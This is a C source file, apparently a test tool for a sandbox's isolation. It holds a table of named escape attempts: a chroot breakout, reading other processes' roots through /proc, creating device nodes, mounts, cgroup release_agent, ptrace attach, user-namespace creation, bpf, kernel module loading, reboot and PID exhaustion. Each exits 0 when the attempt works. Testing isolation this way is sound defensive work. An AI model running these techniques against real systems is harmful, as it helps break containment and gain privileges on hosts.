// Attempts to leave a step's isolation. `attack NAME [ARGUMENT...]` exits with 0 when it succeeds.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int can_read(const char *path) {
  char byte;
  int fd = open(path, O_RDONLY);
  return fd >= 0 && read(fd, &byte, 1) == 1;
}

static int succeeded(long result) {
  if (result < 0) perror("refused");
  return result >= 0;
}

// True unless the call was refused: any other failure shows that the kernel looked at it.
static int reached(long result) {
  int refused = result < 0 && (errno == EPERM || errno == EACCES);
  if (refused) perror("refused");
  return !refused;
}

static int chroot_out(char **a) {
  mkdir("/tmp/jail", 0755);
  int here = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/tmp/jail") || fchdir(here)) return 0;
  for (int i = 0; i < 64; i++)
    if (chdir("..")) return 0;
  return chroot(".") == 0 && can_read(a[0]);
}

static int proc_root(char **a) {
  DIR *proc = opendir("/proc");
  struct dirent *entry;
  char path[8192];
  while ((entry = readdir(proc))) {
    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
    snprintf(path, sizeof path, "/proc/%s/root%s", entry->d_name, a[0]);
    if (can_read(path)) return 1;
  }
  return 0;
}

static int leaked_descriptor(char **a) {
  DIR *folder = opendir("/proc/self/fd");
  struct dirent *entry;
  while ((entry = readdir(folder))) {
    int fd = atoi(entry->d_name);
    if (fd > 2 && fd != dirfd(folder)) return 1;
  }
  return 0;
}

static int device(char **a) {
  unlink("/tmp/node");
  return mknod("/tmp/node", S_IFCHR | 0600, makedev(atoi(a[0]), atoi(a[1]))) == 0 &&
         can_read("/tmp/node");
}

static int device_in_dev(char **a) {
  return mknod("/dev/node", S_IFCHR | 0600, makedev(atoi(a[0]), atoi(a[1]))) == 0 &&
         can_read("/dev/node");
}

static int mount_memory(char **a) { return succeeded(mount("x", "/tmp", "tmpfs", 0, "")); }
static int bind_mount(char **a) { return succeeded(mount("/bin", "/tmp", 0, MS_BIND, 0)); }
static int remount(char **a) {
  return succeeded(mount("none", a[0], 0, MS_REMOUNT | MS_BIND, 0));
}
static int overlay(char **a) {
  mkdir("/tmp/u", 0755), mkdir("/tmp/w", 0755), mkdir("/tmp/m", 0755);
  return succeeded(mount("o", "/tmp/m", "overlay", 0, "lowerdir=/bin,upperdir=/tmp/u,workdir=/tmp/w"));
}
static int release_agent(char **a) {
  return reached(mount("cgroup", "/tmp", "cgroup", 0, "name=systemd"));
}
static int unmask(char **a) { return succeeded(umount2(a[0], MNT_DETACH)); }

static int write_back(char **a) {
  char text[4096];
  int fd = open(a[0], O_RDONLY);
  ssize_t length = read(fd, text, sizeof text);
  if (length < 0) return 0;
  fd = open(a[0], O_WRONLY);
  return succeeded(fd) && write(fd, text, length) == length;
}
static int open_for_writing(char **a) { return succeeded(open(a[0], O_WRONLY)); }
static int readable(char **a) { return can_read(a[0]); }
static int write_file(char **a) {
  int fd = open(a[0], O_WRONLY | O_CREAT, 0644);
  return succeeded(fd) && write(fd, "x", 1) == 1;
}
static int change_mode(char **a) { return succeeded(chmod(a[0], strtol(a[1], 0, 8))); }

static int trace(char **a) {
  pid_t pid = atoi(a[0]);
  if (!succeeded(ptrace(PTRACE_ATTACH, pid, 0, 0))) return 0;
  waitpid(pid, 0, __WALL);
  return ptrace(PTRACE_DETACH, pid, 0, 0) == 0;
}
static int signal_process(char **a) { return succeeded(kill(atoi(a[0]), 0)); }

static int add_key(char **a) {
  return succeeded(syscall(SYS_add_key, "user", "k", "v", 1, -2 /* process keyring */));
}
static int bpf(char **a) {
  int map[16] = {2, 4, 4, 1};
  return succeeded(syscall(SYS_bpf, 0, map, sizeof map));
}
static int perf(char **a) {
  char event[128] = {0};
  event[4] = sizeof event;
  event[0] = 1;
  return reached(syscall(SYS_perf_event_open, event, 0, -1, -1, 0));
}
static int user_fault(char **a) { return reached(syscall(SYS_userfaultfd, 1)); }
static int io_uring(char **a) { return reached(syscall(SYS_io_uring_setup, 1, 0)); }
static int user_namespace(char **a) { return succeeded(unshare(CLONE_NEWUSER)); }
static int user_namespace_by_clone(char **a) {
  long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  return succeeded(pid);
}
static int user_namespace_by_clone3(char **a) {
  long args[11] = {CLONE_NEWUSER};
  args[4] = SIGCHLD;
  long pid = syscall(SYS_clone3, args, 64);
  if (pid == 0) _exit(0);
  return succeeded(pid);
}
static int join_namespace(char **a) {
  return succeeded(setns(open("/proc/self/ns/uts", O_RDONLY), CLONE_NEWUTS));
}
static int module(char **a) { return reached(syscall(SYS_finit_module, -1, "", 0)); }
static int set_clock(char **a) {
  struct timespec now;
  clock_gettime(CLOCK_REALTIME, &now);
  return succeeded(clock_settime(CLOCK_REALTIME, &now));
}
static int reboot_machine(char **a) { return reached(syscall(SYS_reboot, 0, 0, 0, 0)); }
static int open_by_handle(char **a) {
  // The root folder of an ext4: inode 2, generation 0.
  struct { unsigned bytes; int type; unsigned inode, generation; } handle = {8, 1, 2, 0};
  return reached(syscall(SYS_open_by_handle_at, open("/", O_RDONLY), &handle, O_RDONLY));
}
static int kernel_log(char **a) { return succeeded(syscall(SYS_syslog, 10, 0, 0)); }
static int io_ports(char **a) {
#ifdef SYS_iopl
  return succeeded(syscall(SYS_iopl, 3));
#else
  return 0;
#endif
}
static int host_session(char **a) { return getsid(0) != getpid(); }
static int become_root(char **a) { return geteuid() == 0; }
static int daemonise(char **a) {
  if (fork() == 0) {
    setsid();
    if (fork() == 0) {
      for (int fd = 0; fd < 3; fd++) close(fd);
      pause();
    }
    _exit(0);
  }
  wait(0);
  return 1;
}
static int fill_pids(char **a) {
  int started = 0, wanted = atoi(a[0]);
  for (; started < wanted; started++) {
    pid_t pid = fork();
    if (pid < 0) break;
    if (pid == 0) pause();
  }
  int full = started == wanted;
  signal(SIGTERM, SIG_IGN);
  kill(0, SIGTERM);
  return full;
}
static int namespace(char **a) {
  char mine[64] = {0}, path[64];
  snprintf(path, sizeof path, "/proc/self/ns/%s", a[0]);
  if (readlink(path, mine, sizeof mine - 1) < 0) return 0;
  return strcmp(mine, a[1]) == 0;
}

struct { const char *name; int (*run)(char **); } attacks[] = {
#define A(f) {#f, f}
    A(chroot_out), A(proc_root), A(leaked_descriptor), A(device), A(device_in_dev),
    A(mount_memory), A(bind_mount), A(remount), A(overlay), A(release_agent), A(unmask),
    A(write_back), A(open_for_writing), A(readable), A(write_file), A(change_mode), A(trace),
    A(signal_process), A(add_key), A(bpf), A(perf), A(user_fault), A(io_uring), A(user_namespace),
    A(user_namespace_by_clone), A(user_namespace_by_clone3), A(join_namespace), A(module),
    A(set_clock), A(reboot_machine), A(open_by_handle), A(kernel_log), A(io_ports),
    A(host_session), A(become_root), A(daemonise), A(fill_pids), A(namespace)};

int main(int count, char **arguments) {
  for (int i = 0; i < sizeof attacks / sizeof *attacks; i++)
    if (count > 1 && strcmp(attacks[i].name, arguments[1]) == 0)
      return attacks[i].run(arguments + 2) ? 0 : 1;
  return 99;
}
